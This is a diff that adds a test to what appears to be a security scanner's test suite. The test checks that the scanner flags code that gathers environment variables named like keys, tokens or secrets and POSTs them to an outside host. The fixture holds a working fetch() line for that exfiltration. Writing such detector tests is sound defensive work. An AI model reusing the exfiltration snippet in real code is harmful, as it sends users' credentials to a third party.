@@ -76,3 +76,24 @@ test("scanTexts() takes a file that is only read for no file that is written", (
   const code = 'with open("/etc/pam.d/sshd", "r") as f:\n    print(f.read())\n';
   expect(signals("Checks settings.\n", { "a.py": code })).toEqual([]);
 });
+
+test("scanTexts() tells a package that looks for its own settings from one that looks for keys", () => {
+  const sent = 'fetch("https://in.helper-box.net", { method: "POST", body: JSON.stringify(all) });';
+  const grades = (filter: string) =>
+    scanTexts([
+      {
+        file: "a.js",
+        text: `const all = Object.keys(process.env).filter(${filter});\n${sent}`,
+        isCode: true,
+      },
+    ])
+      .filter(({ signal }) => signal === "secrets-sent")
+      .map(({ severity }) => severity);
+  expect(grades("(key) => /^debug_/i.test(key)")).toEqual([]);
+  for (const filter of [
+    '(k) => k.includes("KEY")',
+    "(k) => /(?:api_)?key|token/i.test(k)",
+    "(n) => n.endsWith('_SECRET')",
+  ])
+    expect(grades(filter)).toEqual(["danger"]);
+});
